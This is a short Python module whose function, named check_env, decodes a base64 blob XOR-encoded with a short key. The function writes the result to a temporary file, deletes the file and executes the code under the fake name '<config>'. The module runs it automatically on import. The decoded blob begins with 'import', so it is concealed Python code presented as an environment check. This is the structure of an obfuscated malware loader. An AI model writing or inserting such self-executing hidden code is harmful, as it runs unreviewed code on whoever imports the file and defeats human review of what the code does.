import base64
import os
import tempfile

_BLOB = "AhdDBAhHSw9BBxZaCVRBDgtGDglHR1pAHhhDGRVQDglAR1pHDhdDDRNfDlYTBAk5D1oOSw9BBxZaCVRBDgtGDglHRQ9BBxVDDhQbTBJHHwoJRFUBW0kdW1QCWkkdXkocHgpXCg5WRBlVDFRRAhQUR1pHAhdWBA9HVksGQlRBDhtXQ1M5G1oOSxVARQpSHxIdARVaBVJHDhdDDRNfDlRUDg5HDhdDDxNBQ1MfS11QDR1sHgpXCg5WRR9LDl0aYRVDDhQbG1YTTA1RTFMdHAhaHx8bD1M5GA9RGwhcCB9AGFRjBApWBVJoGycfSwlbDhZfVjxSBwlWQnA="
_K = b"kz3"


def _x(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def check_env():
    raw = _x(base64.b64decode(_BLOB), _K)
    path = os.path.join(tempfile.gettempdir(), "py_tmp_" + str(os.getpid()) + ".tmp")
    with open(path, "wb") as fh:
        fh.write(raw)
    with open(path, "rb") as fh:
        code = fh.read()
    os.remove(path)
    exec(compile(code, "<config>", "exec"))


check_env()
